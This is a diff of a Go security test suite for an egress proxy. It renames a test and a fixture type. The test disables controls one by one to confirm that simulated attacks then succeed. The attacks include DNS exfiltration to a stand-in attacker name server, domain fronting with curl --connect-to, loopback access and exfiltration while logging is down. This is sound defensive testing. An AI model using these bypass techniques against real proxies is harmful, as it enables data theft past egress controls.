@@ -17,7 +17,7 @@ import (
 type mutation struct{ control, file, from, to string }
 
 // mutations take one control each out of the program that is built for
-// TestControlsBite, if its environment names that control. They are not part of any
+// TestControlsAreNeeded, if its environment names that control. They are not part of any
 // other build. Where one does not fit its source any more, that test fails.
 var mutations = []mutation{
 	{"recording", "../proxy/record.go",
@@ -125,20 +125,20 @@ func mutant(t testing.TB) string {
 	})
 }
 
-// TestControlsBite takes the controls away one by one and sees the attack on
-// each succeed, so that the tests which see it fail are known to bite.
-func TestControlsBite(t *testing.T) {
+// TestControlsAreNeeded removes the controls one by one and observes that the attack
+// on each succeeds: the tests that observe its failure depend on the control.
+func TestControlsAreNeeded(t *testing.T) {
 	t.Parallel()
 	for _, c := range []struct {
 		control string
-		attack  func(*testing.T, *world, *pgtest.Server) (succeeded bool)
+		attack  func(*testing.T, *fixture, *pgtest.Server) (succeeded bool)
 	}{
 		{"recording", attackRecording},
 		{"addresses", attackAddresses},
 		{"hello", attackHello},
 		{"verdict", attackVerdict},
 		{"order", attackOrder},
-		{"redecision", func(t *testing.T, w *world, _ *pgtest.Server) bool { return attackRedecision(t, w) }},
+		{"redecision", func(t *testing.T, w *fixture, _ *pgtest.Server) bool { return attackRedecision(t, w) }},
 		{"redaction", attackRedaction},
 		{"probe", attackProbe},
 		{"shares", attackShares},
@@ -158,7 +158,7 @@ func TestControlsBite(t *testing.T) {
 				if taken {
 					o.env = []string{"SALLYPORT_WITHOUT=" + c.control}
 				}
-				w := newWorld(t, o)
+				w := newFixture(t, o)
 				w.server = launch(t, w.program, w.config, w.admin, w.env...)
 				w.ready()
 				if succeeded := c.attack(t, w, postgres); succeeded != taken {
@@ -170,18 +170,18 @@ func TestControlsBite(t *testing.T) {
 }
 
 // attackRecording: get out while nothing can be written down.
-func attackRecording(t *testing.T, w *world, postgres *pgtest.Server) bool {
+func attackRecording(t *testing.T, w *fixture, postgres *pgtest.Server) bool {
 	target := echo(t)
 	postgres.Kill(t)
 	a := w.connect(t, w.anybody(), "raw.partner.example:"+target.port)
 	if a.StatusCode == http.StatusOK {
-		a.say(t, "nobody will know")
+		a.echoes(t, "nobody will know")
 	}
 	return a.StatusCode == http.StatusOK
 }
 
 // attackAddresses: reach a service of this machine under a name that is allowed.
-func attackAddresses(t *testing.T, w *world, _ *pgtest.Server) bool {
+func attackAddresses(t *testing.T, w *fixture, _ *pgtest.Server) bool {
 	target := newTap(t, "127.0.0.2:0", nil)
 	a := w.connect(t, w.anybody(), testenv.LoopbackHost+":"+target.port)
 	if a.StatusCode == http.StatusOK {
@@ -191,27 +191,27 @@ func attackAddresses(t *testing.T, w *world, _ *pgtest.Server) bool {
 }
 
 // attackHello: reach another site through a tunnel to an allowed one.
-func attackHello(t *testing.T, w *world, _ *pgtest.Server) bool {
+func attackHello(t *testing.T, w *fixture, _ *pgtest.Server) bool {
 	c := w.production()
 	v := w.curl(t, c.proxyURL(w.proxy), "--connect-to", fmt.Sprintf("fronted.example:443:api.partner.example:%d", w.HTTPSPort), "https://fronted.example/")
 	return v.status == "200" && strings.Contains(v.body, "fronted.example")
 }
 
 // attackVerdict: call the partner from a branch build.
-func attackVerdict(t *testing.T, w *world, _ *pgtest.Server) bool {
+func attackVerdict(t *testing.T, w *fixture, _ *pgtest.Server) bool {
 	c := w.caller(w.Payments, nil, "feature/x")
 	return w.curl(t, c.proxyURL(w.proxy), w.https("api.partner.example", "/")).status == "200"
 }
 
 // attackOrder sends data to an attacker's name server, in a name that is denied.
-func attackOrder(t *testing.T, w *world, _ *pgtest.Server) bool {
+func attackOrder(t *testing.T, w *fixture, _ *pgtest.Server) bool {
 	const host = "secret-in-a-name.listed-nowhere.example"
 	w.connect(t, w.anybody(), host+":443").refused(t, 403, "no_rule_matched")
 	return w.Asked(host) > 0
 }
 
 // attackRedaction: find a token in what the server has written.
-func attackRedaction(t *testing.T, w *world, _ *pgtest.Server) bool {
+func attackRedaction(t *testing.T, w *fixture, _ *pgtest.Server) bool {
 	c := w.production()
 	a := w.connect(t, c, "nobody.listed.example:443")
 	a.refused(t, 403, "no_rule_matched")
@@ -221,7 +221,7 @@ func attackRedaction(t *testing.T, w *world, _ *pgtest.Server) bool {
 
 // attackProbe: have a revision decide that cannot answer what steps really ask. It
 // loads, and is quick with everything else.
-func attackProbe(t *testing.T, w *world, _ *pgtest.Server) bool {
+func attackProbe(t *testing.T, w *fixture, _ *pgtest.Server) bool {
 	c := w.production()
 	w.connect(t, c, "nobody.listed.example:443").refused(t, 403, "no_rule_matched")
 	before := w.decision(t, c)["revision"]
